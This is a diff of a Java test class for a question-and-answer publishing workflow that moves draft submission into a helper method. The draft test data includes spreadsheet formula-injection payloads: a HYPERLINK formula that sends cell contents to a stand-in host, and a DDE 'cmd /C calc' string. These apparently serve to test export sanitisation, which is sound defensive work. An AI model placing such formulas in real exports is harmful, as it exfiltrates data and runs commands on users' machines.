@@ -241,16 +241,12 @@ class PublishedAnswersTest {
         var id = h2.send("question");
         h2.deed(id, (desk, sheet) -> desk.assign(id, sheet.unit(), sheet.version(), "van-phong"));
         h2.actAs("responder");
-        h2.deed(
+        h2.draft(
                 id,
-                (desk, sheet) -> desk.draft(
-                        id,
-                        sheet.unit(),
-                        sheet.version(),
-                        "Bảy ngày.",
-                        "=HYPERLINK(\"http://x.example/?\"&A1)",
-                        "\t@SUM(1+1)*cmd|' /C calc'!A0",
-                        "+84 lần, -2 ngày"));
+                "Bảy ngày.",
+                "=HYPERLINK(\"http://x.example/?\"&A1)",
+                "\t@SUM(1+1)*cmd|' /C calc'!A0",
+                "+84 lần, -2 ngày");
         h2.actAs("approver");
         h2.deed(id, (desk, sheet) -> desk.approve(id, sheet.unit(), sheet.version(), true));
         h2.deed(id, (desk, sheet) -> desk.answer(id, sheet.unit(), sheet.version()));
@@ -297,7 +293,7 @@ class PublishedAnswersTest {
     /** What was answered once more, by the same people. */
     private void answerAgain(long id) {
         h2.actAs("responder");
-        h2.deed(id, (desk, sheet) -> desk.draft(id, sheet.unit(), sheet.version(), "Tám ngày.", "", "", ""));
+        h2.draft(id, "Tám ngày.", "", "", "");
         h2.actAs("approver");
         h2.deed(id, (desk, sheet) -> desk.approve(id, sheet.unit(), sheet.version(), false));
         h2.deed(id, (desk, sheet) -> desk.answer(id, sheet.unit(), sheet.version()));
